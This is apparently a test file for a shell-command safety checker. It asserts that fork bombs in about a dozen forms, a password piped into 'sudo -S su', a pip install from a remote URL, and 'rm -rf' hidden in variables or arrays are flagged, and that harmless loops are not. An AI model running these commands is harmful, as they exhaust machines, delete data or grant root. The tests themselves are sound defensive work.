"""What starts programs without end is found, however it is written; loops that wait are not."""

from __future__ import annotations

import pytest

from handrail.judge import assess
from handrail.judge.values.assessment import Verdict


@pytest.mark.parametrize(
    "command",
    [
        "while true; do bash & done",
        "while :; do (sleep 999 &); done",
        "while ((1)); do echo x; ./x & done",
        "until false; do yes > /dev/null & done",
        "for ((;;)); do :& done",
        "echo '$0 & $0' > b.sh; chmod +x b.sh; ./b.sh",
        "echo './b | ./b &' > b; chmod +x b; ./b",
        "yes | xargs -P 0 -I{} sh -c 'sleep 999'",
        "yes | parallel -j0 sleep 999",
        "awk 'BEGIN{while(1) system(\"sleep 999 &\")}'",
        "node -e \"const {spawn} = require('child_process'); for(;;) spawn('x')\"",
        "gcc -xc - <<< 'int main(){while(1)fork();}' && ./a.out",
    ],
)
def test_a_bomb_is_blocked(command: str) -> None:
    assessment = assess(command)
    assert assessment.verdict is Verdict.BLOCK
    assert "proc.fork_bomb" in {finding.rule for finding in assessment.findings}


@pytest.mark.parametrize(
    "command",
    [
        "while true; do ./poll & sleep 5; done",
        "while read line; do handle $line & done < jobs",
        "while true; do nc -l 8080 > in; ./handle in & wait; done",
        "for i in 1 2 3; do ./work $i & done; wait",
        "while true; do date; done",
        "yes | head -3",
        "seq 100 | xargs -P 4 -n 1 echo",
        "gcc -xc - <<< 'int main(){fork();}'",
    ],
)
def test_what_waits_or_ends_is_no_bomb(command: str) -> None:
    assert "proc.fork_bomb" not in {finding.rule for finding in assess(command).findings}


def test_the_password_that_sudo_reads_is_not_the_script() -> None:
    assert "privilege.root_shell" in {finding.rule for finding in assess("echo secret | sudo -S su").findings}


def test_a_module_of_python_is_the_program_of_its_name() -> None:
    assert assess("python3 -m pip install http://x.example/x.zip").dangerous
    assert not assess("python3 -m unittest tests.test_kill").dangerous


@pytest.mark.parametrize(
    "command", ['set -- rm -rf /srv/x; "$@"', 'a=(rm -rf /srv/x); "${a[@]}"', 'c=rm; "$c" -rf "/srv/x"']
)
def test_quoted_words_become_the_fields_that_they_hold(command: str) -> None:
    assert "fs.rm.recursive" in {finding.rule for finding in assess(command).findings}
